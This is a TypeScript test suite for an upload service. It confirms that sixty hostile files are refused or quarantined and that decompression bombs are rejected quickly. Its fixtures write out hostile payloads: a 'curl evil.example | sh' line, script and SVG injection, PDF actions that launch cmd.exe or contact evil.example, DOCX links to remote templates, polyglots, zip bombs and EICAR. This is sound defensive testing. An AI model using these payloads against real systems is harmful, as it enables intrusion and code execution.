/**
 * Sixty files that mean harm, by how they come: each is refused at the door with a code, or shut away by the virus check
 * (ClamAV's protocol, with a stand-in that knows the test virus). What bad-input.test.ts has is not here again but as a
 * family. Bombs are refused at once and in little memory.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import {
  aDocx,
  aJpeg,
  anArchive,
  anXlsx,
  aPdf,
  aPng,
  type ArchiveEntry,
  ascii,
  aTiff,
  aWebp,
  concat,
  createTestServer,
  noise,
  type TestServer,
} from '@portico/testing';
import { EICAR, startClamd } from '../ports/clamd.suite.js';
import { createClamavScanner } from '../ports/scanner.clamav.js';
import { aScene, refusalOf, type Scene } from './scene.suite.js';

type Bytes = Uint8Array<ArrayBuffer>;

let server: TestServer;
let scene: Scene;
let clamd: Awaited<ReturnType<typeof startClamd>>;
before(async () => {
  clamd = await startClamd();
  server = await createTestServer({ ports: { scanner: createClamavScanner({ url: clamd.url }) } });
  const images = ['jpeg', 'png', 'heic', 'webp', 'tiff'].map((name) => `image/${name}`);
  const office = ['wordprocessingml.document', 'spreadsheetml.sheet'].map(
    (name) => `application/vnd.openxmlformats-officedocument.${name}`,
  );
  scene = await aScene(server, { accept: ['application/pdf', ...images, ...office] });
});
after(async () => {
  await server.close();
  await clamd.close();
});

const rels = (type: string, target: string): ArchiveEntry => ({
  name: 'word/_rels/settings.xml.rels',
  content: ascii(
    `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  ),
});
const pdf = (body: string) => ascii(`%PDF-1.7\n1 0 obj<</Type/Catalog ${body}>>endobj\n%%EOF\n`);
const jpegWith = (comment: string) => {
  const length = comment.length + 2;
  const segment = concat([new Uint8Array([0xff, 0xfe, length >> 8, length & 255]), ascii(comment)]);
  return concat([aJpeg().subarray(0, 2), segment, aJpeg().subarray(2)]);
};
const chunked = (text: string) => concat([aPng(), ascii(text)]);
const inside = (name: string, content: Uint8Array = noise(200, 1)) => aDocx([{ name, content }]);
const zeros = new Uint8Array(20_000_000);
const nested = (depth: number): Bytes =>
  depth === 0
    ? anArchive([{ name: '0', content: zeros }])
    : anArchive([{ name: `${depth}.zip`, content: nested(depth - 1) }]);
const script = '<script>fetch("/canary")</script>';

/** A gigabyte of zeros: members of a gzip file follow each other (RFC 1952, section 2.2). */
function gigabyte(): Bytes {
  const member = gzipSync(new Uint8Array(2 ** 24));
  return concat(Array.from({ length: 64 }, () => member));
}

/** Name, bytes, and the code that they are refused with. */
const refusedFiles: readonly (readonly [string, Bytes, string])[] = [
  // Markup and script under innocent names.
  ['photo.jpg', ascii('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/canary\')"/>'), 'file_active_content'],
  ['photo.png', ascii('<?xml version="1.0"?><svg onload="alert(1)"/>'), 'file_active_content'],
  ['photo.jpg', ascii(`<!doctype html><html>${script}</html>`), 'file_active_content'],
  ['scan.pdf', ascii(`<html><body onload="alert(1)">`), 'file_active_content'],
  ['scan.pdf', ascii(`${' '.repeat(900)}<HTML>${script}`), 'file_active_content'],
  ['photo.webp', ascii(`RIFF....HTML${script}`), 'file_active_content'],
  ['photo.tif', ascii(`<!--II*\0-->${script}`), 'file_active_content'],
  ['letter.docx', ascii('<?xml version="1.0"?><?mso-application progid="Word.Document"?>'), 'file_active_content'],
  ['photo.jpg', ascii('#!/bin/sh\ncurl evil.example | sh'), 'file_active_content'],
  ['photo.jpg', ascii('javascript:fetch("/canary")'), 'file_active_content'],
  ['photo.jpg', ascii('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'file_type_mismatch'],
  ['photo.jpg', ascii('+/v8-+ADw-html+AD4-'), 'file_type_mismatch'],
  ['photo.jpg', concat([new Uint8Array([0xff, 0xfe]), Buffer.from(script, 'utf16le')]), 'file_active_content'],
  ['photo.jpg', concat([new Uint8Array([0xfe, 0xff]), Buffer.from(script, 'utf16le').swap16()]), 'file_active_content'],
  ['photo.jpg', concat([new Uint8Array([0xef, 0xbb, 0xbf]), ascii(script)]), 'file_active_content'],
  // Two kinds in one.
  [
    'photo.jpg',
    concat([ascii('GIF89a'), anArchive([{ name: 'META-INF/MANIFEST.MF', content: ascii('x') }])]),
    'file_type_mismatch',
  ],
  ['photo.png', concat([ascii('GIF89a=1;alert(1)//'), noise(100, 1)]), 'file_type_mismatch'],
  ['scan.pdf', pdf(`/X (${script})`), 'file_active_content'],
  ['scan.pdf', concat([aPdf(500), ascii(`<html>${script}</html>`)]), 'file_active_content'],
  ['scan.pdf', concat([aPdf(200_000), ascii(`<html>${script}</html>`)]), 'file_active_content'],
  ['scan.pdf', concat([ascii(`<!-- -->${script}`), aPdf(500)]), 'file_active_content'],
  ['photo.jpg', jpegWith(`*/${script}`), 'file_active_content'],
  ['photo.jpg', jpegWith('<svg onload=alert(1)>'), 'file_active_content'],
  ['photo.jpg', concat([aJpeg({ size: 100_000 }), ascii(`<iframe src="/canary">`)]), 'file_active_content'],
  ['photo.png', chunked(`<html>${script}`), 'file_active_content'],
  ['photo.webp', concat([aWebp(), ascii(`<body onload=alert(1)>`)]), 'file_active_content'],
  ['photo.tif', concat([aTiff(), ascii(`<script src=//evil.example></script>`)]), 'file_active_content'],
  ['photo.jpg', anArchive([{ name: 'a.class', content: noise(50, 2) }]), 'file_type_mismatch'],
  ['scan.pdf', concat([ascii('MZ\x90\0'), aPdf(500)]), 'file_type_mismatch'],
  ['photo.jpg', ascii('\x7fELF\x02\x01\x01'), 'file_type_mismatch'],
  // PDFs that act when they are opened.
  ['form.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'file_active_content'],
  [
    'form.pdf',
    pdf('/OpenAction << /Type /Action /S /JavaScript /JS (app.launchURL("//evil.example")) >>'),
    'file_active_content',
  ],
  ['form.pdf', pdf('/AA<</O<</S/JavaScript/JS(this.exportDataObject())>>>>'), 'file_active_content'],
  ['form.pdf', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'file_active_content'],
  ['form.pdf', pdf('/Names<</X<</S /Launch/Win<</F(calc.exe)>>>>>>'), 'file_active_content'],
  ['form.pdf', pdf('/OpenAction<</S/SubmitForm/F(http://evil.example)>>'), 'file_active_content'],
  ['form.pdf', concat([aPdf(150_000), pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')]), 'file_active_content'],
  // Office files that load or run something.
  ['letter.docx', aDocx([rels('attachedTemplate', 'http://evil.example/t.dotm')]), 'file_active_content'],
  ['letter.docx', aDocx([rels('oleObject', 'file://evil.example/share/x')]), 'file_active_content'],
  ['letter.docx', aDocx([rels('frame', 'http://evil.example/f.htm')]), 'file_active_content'],
  ['letter.docx', inside('word/vbaProject.bin'), 'file_active_content'],
  ['letter.docx', inside('word/embeddings/run.exe'), 'file_active_content'],
  ['letter.docx', inside('word/embeddings/page.html', ascii(script)), 'file_active_content'],
  ['letter.docx', inside('word/embeddings/inner.docx', aDocx()), 'archive_unsafe'],
  ['letter.docx', inside('customUI/run.js'), 'file_active_content'],
  ['letter.docx', anXlsx(), 'file_type_mismatch'],
  ['letter.docm', aDocx(), 'file_active_content'],
  ['page.svg', ascii('<svg/>'), 'file_active_content'],
  ['page.html', ascii(script), 'file_active_content'],
  // Bombs.
  ['letter.docx', aDocx([{ name: 'word/zeros', content: zeros }]), 'archive_unsafe'],
  ['letter.docx', nested(5), 'archive_unsafe'],
  [
    'letter.docx',
    aDocx([
      { name: 'a', content: noise(900, 3) },
      { name: 'b', content: noise(900, 3), start: 0 },
    ]),
    'archive_unsafe',
  ],
  [
    'letter.docx',
    aDocx([{ name: 'word/_rels/document.xml.rels', content: zeros.subarray(0, 900_000) }]),
    'archive_unsafe',
  ],
  ['photo.png', aPng({ width: 30_000, height: 30_000 }), 'image_too_large'],
  ['scan.pdf', gigabyte(), 'file_type_mismatch'],
];

const eicar = ascii(EICAR);
/** Accepted by kind, and shut away by the virus check. */
const quarantinedFiles: readonly (readonly [string, Bytes])[] = [
  ['scan.pdf', concat([aPdf(300), eicar])],
  ['scan.pdf', concat([ascii('%PDF-1.7\n'), eicar, noise(300_000, 2)])],
  ['photo.jpg', jpegWith(EICAR)],
  ['photo.png', concat([aPng(), eicar])],
  ['letter.docx', anArchiveWithStored('word/media/eicar.bin')],
];

/** An archive's entries are packed, which hides the virus from a stand-in that unpacks nothing: so its name carries it. */
function anArchiveWithStored(name: string): Bytes {
  return aDocx([{ name: `${name} ${EICAR}`, content: ascii('x') }]);
}

test(`of ${refusedFiles.length + quarantinedFiles.length} hostile files none can be opened by anybody`, async (t) => {
  assert.equal(refusedFiles.length + quarantinedFiles.length, 60);
  for (const [at, [name, bytes, code]] of refusedFiles.entries()) {
    const [, refusal] = await refusalOf(await scene.tus.send(scene.requestId, name, bytes));
    assert.equal(refusal, code, `file ${at + 1}, ${name}`);
  }
  assert.equal((await scene.documents()).length, 0);
  for (const [name, bytes] of quarantinedFiles) {
    const sent = await scene.tus.send(scene.requestId, name, bytes);
    assert.equal(sent.status, 204, await sent.text());
    await server.deps.arrivals.deliver();
    const id = sent.headers.get('portico-document');
    const answer = await scene.staff('GET', `/v1/firm/documents/${id}/content`);
    assert.deepEqual(await refusalOf(answer), [409, 'document_quarantined'], name);
  }
  t.diagnostic(`${refusedFiles.length} refused, ${quarantinedFiles.length} quarantined`);
});

test('a bomb is refused within a second and 50 MB', async (t) => {
  const bombs = refusedFiles.filter(
    ([name, bytes, code]) =>
      code === 'archive_unsafe' || code === 'image_too_large' || (name === 'scan.pdf' && bytes.byteLength > 500_000),
  );
  const peak = process.resourceUsage().maxRSS;
  let slowest = 0;
  let largest = 0;
  for (const [name, bytes, code] of bombs) {
    const [before, began] = [process.memoryUsage().rss, performance.now()];
    const [, refusal] = await refusalOf(await scene.tus.send(scene.requestId, name, bytes));
    slowest = Math.max(slowest, performance.now() - began);
    largest = Math.max(largest, process.memoryUsage().rss - before);
    assert.equal(refusal, code);
  }
  // Both what stayed, and by how much the process was ever larger than before.
  largest = Math.max(largest, (process.resourceUsage().maxRSS - peak) * 1024);
  t.diagnostic(`${bombs.length} bombs: ${Math.round(slowest)} ms and ${Math.round(largest / 2 ** 20)} MB at most`);
  assert.ok(slowest < 1000, `${slowest} ms`);
  assert.ok(largest < 50 * 2 ** 20, `${largest} bytes`);
});
